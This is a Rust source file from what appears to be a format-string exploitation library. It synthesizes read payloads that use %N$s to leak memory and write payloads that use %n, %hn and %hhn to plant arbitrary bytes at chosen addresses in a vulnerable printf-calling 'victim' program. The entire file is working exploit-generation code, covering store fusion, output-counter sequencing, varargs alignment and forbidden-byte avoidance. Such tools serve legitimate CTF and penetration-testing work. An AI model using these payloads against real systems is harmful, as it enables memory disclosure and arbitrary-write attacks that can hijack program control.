//! Read and write payload synthesis.
//!
//! Both payloads share the same buffer model: the victim hands our bytes to
//! a `printf`-family routine, the buffer itself sits at varargs index
//! `settings.offset`, and every address slot we emit must land on a varargs
//! word boundary. The write payload additionally rides the output counter:
//! `%n`-family directives store the number of bytes printed so far, so
//! stores are sequenced by ascending target value and the counter is walked
//! upwards between them.

use crate::error::{PayloadError, Result};
use crate::settings::PayloadSettings;
use log::debug;
use std::collections::BTreeMap;

/// Literal byte used to advance the output counter by one or two positions,
/// where a `%Nc` directive would cost more bytes than it saves.
const COUNTER_FILLER: u8 = b'A';

/// One fused `%n`-family store: when the output counter reaches `value`,
/// a directive writes it as a `width`-byte integer at `address`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct StoreOp {
    pub(crate) address: u64,
    pub(crate) value: u64,
    pub(crate) width: usize,
}

impl StoreOp {
    /// `%n`-family suffix for this store's width
    pub(crate) fn specifier(&self) -> Result<&'static str> {
        match self.width {
            1 => Ok("hhn"),
            2 => Ok("hn"),
            4 => Ok("n"),
            width => Err(PayloadError::InternalInvariant(format!(
                "no %n specifier for a {width}-byte store"
            ))),
        }
    }

    fn fits_width(&self) -> bool {
        self.width >= 8 || self.value >> (8 * self.width as u32) == 0
    }
}

fn ceil_div(numerator: usize, denominator: usize) -> usize {
    (numerator + denominator - 1) / denominator
}

fn decimal_width(mut n: usize) -> usize {
    let mut width = 1;
    while n >= 10 {
        n /= 10;
        width += 1;
    }
    width
}

/// Reads the NUL-terminated C string at `address` via a `%N$s` conversion.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ReadPayload {
    pub address: u64,
}

impl ReadPayload {
    pub fn new(address: u64) -> ReadPayload {
        ReadPayload { address }
    }

    /// Generate the format string that prints the string at `self.address`.
    ///
    /// `start_len` is the number of bytes the victim has already printed
    /// before our buffer is consumed.
    pub fn generate(&self, settings: &PayloadSettings, start_len: usize) -> Result<Vec<u8>> {
        let word = settings.arch.bytes();

        // Reserve directive room assuming a five-digit index, then widen the
        // assumption if the computed index itself needs more digits.
        let mut digits = 5;
        let index = loop {
            let bound = 1 + digits + 2; // '%' + index + "$s"
            let words = ceil_div(start_len.saturating_sub(settings.padding) + bound, word);
            let index = settings.offset + words;
            if decimal_width(index) <= digits {
                break index;
            }
            digits = decimal_width(index);
        };

        let directive = format!("%{index}$s");
        let aligned = settings.padding + word * (index - settings.offset);
        let pad = aligned
            .checked_sub(start_len + directive.len())
            .ok_or_else(|| {
                PayloadError::InternalInvariant(format!(
                    "read directive %{index}$s overruns its address slot"
                ))
            })?;

        let mut payload = directive.into_bytes();
        payload.extend(std::iter::repeat(settings.padding_byte()).take(pad));
        payload.extend(settings.arch.pack_address(self.address)?);
        settings.check_forbidden(&payload)?;
        Ok(payload)
    }
}

/// Arbitrary memory writes via `%n`-family stores.
///
/// The payload is a byte map: record the bytes to plant with [`set`] or
/// [`set_byte`], then call [`generate`] to synthesize the format string.
///
/// [`set`]: WritePayload::set
/// [`set_byte`]: WritePayload::set_byte
/// [`generate`]: WritePayload::generate
#[derive(Debug, Clone, Default)]
pub struct WritePayload {
    memory: BTreeMap<u64, u8>,
}

impl WritePayload {
    pub fn new() -> WritePayload {
        WritePayload {
            memory: BTreeMap::new(),
        }
    }

    /// Record `bytes` starting at `address`, overwriting earlier entries on
    /// conflict.
    pub fn set(&mut self, address: u64, bytes: &[u8]) {
        for (i, &byte) in bytes.iter().enumerate() {
            self.memory.insert(address + i as u64, byte);
        }
    }

    /// Record a single byte at `address`
    pub fn set_byte(&mut self, address: u64, byte: u8) {
        self.memory.insert(address, byte);
    }

    pub fn is_empty(&self) -> bool {
        self.memory.is_empty()
    }

    /// Synthesize the format string that performs every recorded write.
    pub fn generate(&self, settings: &PayloadSettings, start_len: usize) -> Result<Vec<u8>> {
        if self.memory.is_empty() {
            return Err(PayloadError::EmptyWrite);
        }

        let mut stores = self.fuse_stores(settings)?;
        stores.sort_by_key(|store| store.value);

        let first_value = stores[0].value;
        if start_len as u64 > first_value {
            return Err(PayloadError::StartLengthTooLarge {
                start_len,
                first_value,
            });
        }

        let start_offset = solve_start_offset(&stores, settings, start_len)?;
        emit(&stores, settings, start_len, start_offset)
    }

    /// Walk the byte map in address order and fuse adjacent bytes into
    /// 1/2/4-byte stores.
    ///
    /// A 4-byte store only ever carries a value the counter can actually
    /// reach (<= 0xFFFF); its two high bytes come from the counter, so the
    /// fusion requires them to be mapped and consistent with that value.
    pub(crate) fn fuse_stores(&self, settings: &PayloadSettings) -> Result<Vec<StoreOp>> {
        let arch = &settings.arch;
        let addresses: Vec<u64> = self.memory.keys().copied().collect();
        let mut stores = Vec::new();
        let mut i = 0;

        while i < addresses.len() {
            let addr = addresses[i];
            let packed = arch.pack_address(addr)?;

            if let Some(bad) = settings.first_forbidden(&packed) {
                // The address slot itself cannot be emitted. Shift the store
                // one byte left; the gap byte comes from the map or is zero.
                let shifted = addr
                    .checked_sub(1)
                    .ok_or(PayloadError::ForbiddenByte(bad))?;
                if let Some(bad) = settings.first_forbidden(&arch.pack_address(shifted)?) {
                    return Err(PayloadError::ForbiddenByte(bad));
                }

                let low = self.memory.get(&shifted).copied().unwrap_or(0);
                let b0 = self.memory[&addr];

                let fused = match (self.memory.get(&(addr + 1)), self.memory.get(&(addr + 2))) {
                    (Some(&b1), Some(&b2)) => {
                        let value = arch.unpack_value(&[low, b0, b1, b2])?;
                        (value <= 0xffff).then_some(value)
                    }
                    _ => None,
                };

                if let Some(value) = fused {
                    debug!("store {value:#06x} -> {shifted:#x} (4 bytes, shifted)");
                    stores.push(StoreOp {
                        address: shifted,
                        value,
                        width: 4,
                    });
                    i += 3;
                } else {
                    let value = arch.unpack_value(&[low, b0])?;
                    debug!("store {value:#06x} -> {shifted:#x} (2 bytes, shifted)");
                    stores.push(StoreOp {
                        address: shifted,
                        value,
                        width: 2,
                    });
                    i += 1;
                }
                continue;
            }

            let b0 = self.memory[&addr];
            let fused = match (
                self.memory.get(&(addr + 1)),
                self.memory.get(&(addr + 2)),
                self.memory.get(&(addr + 3)),
            ) {
                (Some(&b1), Some(&b2), Some(&b3)) => {
                    let value = arch.unpack_value(&[b0, b1, b2, b3])?;
                    (value <= 0xffff).then_some(value)
                }
                _ => None,
            };

            if let Some(value) = fused {
                debug!("store {value:#06x} -> {addr:#x} (4 bytes)");
                stores.push(StoreOp {
                    address: addr,
                    value,
                    width: 4,
                });
                i += 4;
            } else if let Some(&b1) = self.memory.get(&(addr + 1)) {
                let value = arch.unpack_value(&[b0, b1])?;
                debug!("store {value:#06x} -> {addr:#x} (2 bytes)");
                stores.push(StoreOp {
                    address: addr,
                    value,
                    width: 2,
                });
                i += 2;
            } else {
                debug!("store {b0:#04x} -> {addr:#x} (1 byte)");
                stores.push(StoreOp {
                    address: addr,
                    value: u64::from(b0),
                    width: 1,
                });
                i += 1;
            }
        }

        Ok(stores)
    }
}

/// Render the directive section for stores in emission order, with the first
/// address slot at varargs index `start_offset`.
pub(crate) fn render_directives(
    stores: &[StoreOp],
    start_len: usize,
    start_offset: usize,
) -> Result<Vec<u8>> {
    let mut directives = Vec::new();
    let mut current = start_len as u64;

    for (slot, store) in stores.iter().enumerate() {
        if !store.fits_width() {
            return Err(PayloadError::InternalInvariant(format!(
                "store value {:#x} overflows a {}-byte write",
                store.value, store.width
            )));
        }
        let delta = store.value.checked_sub(current).ok_or_else(|| {
            PayloadError::InternalInvariant(format!(
                "store value {:#x} is behind the output counter {current:#x}",
                store.value
            ))
        })? as usize;

        if delta > 2 {
            directives.extend(format!("%{delta}c").into_bytes());
        } else {
            directives.extend(std::iter::repeat(COUNTER_FILLER).take(delta));
        }
        let index = start_offset + slot;
        directives.extend(format!("%{index}${}", store.specifier()?).into_bytes());
        current = store.value;
    }

    Ok(directives)
}

/// Find the varargs index of the first address slot.
///
/// The index appears inside `%N$...` directives, so its digit count feeds
/// back into the payload length that determines it. Iterate downward from a
/// seed above any reachable solution; the sequence is non-increasing and
/// bounded by `settings.offset`, so it reaches the fixpoint.
pub(crate) fn solve_start_offset(
    stores: &[StoreOp],
    settings: &PayloadSettings,
    start_len: usize,
) -> Result<usize> {
    let word = settings.arch.bytes();
    let mut start_offset = 1_000_000 + settings.offset + (start_len + 32 * stores.len()) / word;

    loop {
        let directives = render_directives(stores, start_len, start_offset)?.len();
        let new_start = settings.offset
            + ceil_div(start_len.saturating_sub(settings.padding) + directives, word);
        debug!("fixpoint {start_offset} -> {new_start} ({directives} directive bytes)");
        if new_start < start_offset {
            start_offset = new_start;
        } else {
            return Ok(start_offset);
        }
    }
}

/// Assemble the final payload: directives, alignment filler, address block.
fn emit(
    stores: &[StoreOp],
    settings: &PayloadSettings,
    start_len: usize,
    start_offset: usize,
) -> Result<Vec<u8>> {
    let word = settings.arch.bytes();
    let mut payload = render_directives(stores, start_len, start_offset)?;

    let aligned = settings.padding + word * (start_offset - settings.offset);
    let pad = aligned
        .checked_sub(start_len + payload.len())
        .ok_or_else(|| {
            PayloadError::InternalInvariant(
                "directive section overruns the address block alignment".to_string(),
            )
        })?;
    payload.extend(std::iter::repeat(settings.padding_byte()).take(pad));

    for store in stores {
        payload.extend(settings.arch.pack_address(store.address)?);
    }

    debug!(
        "write payload: {} stores, {} bytes, first slot at index {start_offset}",
        stores.len(),
        payload.len()
    );
    settings.check_forbidden(&payload)?;
    Ok(payload)
}
